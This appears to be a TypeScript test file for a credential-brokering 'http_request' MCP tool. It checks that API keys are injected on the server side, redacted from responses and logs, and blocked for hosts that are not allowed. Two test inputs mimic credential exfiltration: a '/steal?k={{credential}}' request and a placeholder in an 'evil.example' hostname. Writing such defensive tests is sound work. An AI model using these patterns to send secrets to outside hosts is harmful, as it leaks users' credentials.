/**
 * `http_request` end to end: a real SDK client over real HTTP → the credential server → the real
 * service → a local `node:http` upstream on 127.0.0.1. The key is filled in server-side and
 * redacted from what comes back.
 */
import assert from 'node:assert/strict';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { startHttpHost, type HttpHost } from '../../src/core/mcp/http';
import { createTestKeyring, type TestKeyring } from '../helpers/testKeyring';
import { call, connectHttp, textOf } from './harness';

interface Seen {
  method: string;
  url: string;
  headers: http.IncomingHttpHeaders;
  body: string;
}

async function listen(server: http.Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
}

describe('http_request through MCP', () => {
  let upstream: http.Server;
  let upstreamPort: number;
  let deadPort: number;
  let seen: Seen[];
  let k: TestKeyring;
  let host: HttpHost;
  let client: Client;

  before(async () => {
    seen = [];
    // An upstream that echoes the request back, value and all, in the body and a header.
    upstream = http.createServer((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
        const echo = JSON.stringify({
          url: req.url,
          auth: req.headers.authorization ?? null,
          key: req.headers['x-api-key'] ?? null,
          body,
        });
        res.writeHead(201, {
          'Content-Type': 'application/json',
          'X-Echo-Auth': String(req.headers.authorization ?? ''),
        });
        res.end(echo);
      });
    });
    upstreamPort = await listen(upstream);
    // A port with nothing listening: bind, note it, close.
    const probe = http.createServer();
    deadPort = await listen(probe);
    await new Promise<void>((r) => probe.close(() => r()));

    k = await createTestKeyring({
      anomaly: { actions: { first_use: 'off', probing: 'off', unusual_hours: 'off' } },
      allowedHosts: [`127.0.0.1:${upstreamPort}`, `127.0.0.1:${deadPort}`],
    });
    // The search API takes its query as a POST: the scope says so (without a rule, search_read may only read).
    await k.keyring.store.updateCredential('scavio_api_key', {
      scope_rules: { search_read: ['GET /v1*', 'POST /v1/search'] },
    });
    host = await startHttpHost({ api: k.api, port: 0, logger: k.logger });
    client = await connectHttp(host.url, k.tokens['research-agent']);
    await client.listTools();
  });
  after(async () => {
    await client.close();
    await host.close();
    await k.dispose();
    await new Promise<void>((r) => upstream.close(() => r()));
  });

  it('fills {{credential}} in a header and in the URL; the response comes back redacted', async () => {
    const value = k.values.scavio_api_key;
    const r = await call(client, 'http_request', {
      credential: 'scavio_api_key',
      scope: 'search_read',
      method: 'POST',
      url: `http://127.0.0.1:${upstreamPort}/v1/search?api_key={{credential}}&q=x`,
      headers: { Authorization: 'Bearer {{credential}}', 'Content-Type': 'application/json' },
      body: '{"q":"release notes"}',
    });
    assert.equal(r.isError, undefined, textOf(r));
    // The upstream saw the real value, in both places.
    const last = seen.at(-1)!;
    assert.equal(last.method, 'POST');
    assert.equal(last.headers.authorization, `Bearer ${value}`);
    assert.equal(new URL(last.url, 'http://x').searchParams.get('api_key'), value);
    assert.equal(last.body, '{"q":"release notes"}');
    // The agent got status, headers and body, with the value redacted everywhere.
    const s = r.structuredContent!;
    assert.equal(s.status, 201);
    const echoed = JSON.parse(s.body as string) as { url: string; auth: string };
    assert.equal(echoed.auth, 'Bearer [REDACTED]');
    assert.match(echoed.url, /api_key=\[REDACTED\]/);
    assert.equal((s.headers as Record<string, string>)['x-echo-auth'], 'Bearer [REDACTED]');
    assert.ok(!JSON.stringify(r).includes(value), 'the value never reaches the agent');
    assert.ok(!k.logger.text().includes(value), 'nor the log');
  });

  it('a host the credential does not allow → host_denied, and nothing is sent', async () => {
    const before = seen.length;
    const r = await call(client, 'http_request', {
      credential: 'scavio_api_key',
      scope: 'search_read',
      method: 'GET',
      url: `http://localhost:${upstreamPort}/steal?k={{credential}}`,
    });
    assert.equal(r.isError, true);
    assert.equal(r.structuredContent?.code, 'host_denied');
    assert.equal(seen.length, before);
  });

  it('an upstream that is down → upstream_error', async () => {
    const r = await call(client, 'http_request', {
      credential: 'scavio_api_key',
      scope: 'search_read',
      method: 'GET',
      url: `http://127.0.0.1:${deadPort}/v1?key={{credential}}`,
    });
    assert.equal(r.isError, true);
    assert.equal(r.structuredContent?.code, 'upstream_error');
    assert.ok(!JSON.stringify(r).includes(k.values.scavio_api_key));
  });

  it('the placeholder in the host is refused as invalid_input', async () => {
    const r = await call(client, 'http_request', {
      credential: 'scavio_api_key',
      scope: 'search_read',
      method: 'GET',
      url: 'http://{{credential}}.evil.example/',
    });
    assert.equal(r.isError, true);
    assert.ok(['invalid_input', 'host_denied'].includes(r.structuredContent?.code as string), textOf(r));
  });
});
